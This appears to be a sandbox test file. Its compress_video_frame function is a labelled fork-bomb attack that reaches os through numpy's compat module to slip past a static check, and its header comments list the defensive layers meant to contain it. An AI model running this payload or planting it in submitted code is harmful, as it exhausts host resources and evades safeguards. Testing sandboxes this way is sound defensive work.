# ATTACK: fork bomb.
# Layers: static check (attribute `os`); audit hook (os.fork); RLIMIT_NPROC in bubblewrap's user namespace;
# the per-frame wall-clock limit kills the whole group.
import numpy as np


def compress_video_frame(frame, frame_index, config):
    os_module = np.compat.py3k.os
    while True:
        try:
            os_module.fork()
        except OSError:
            pass


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
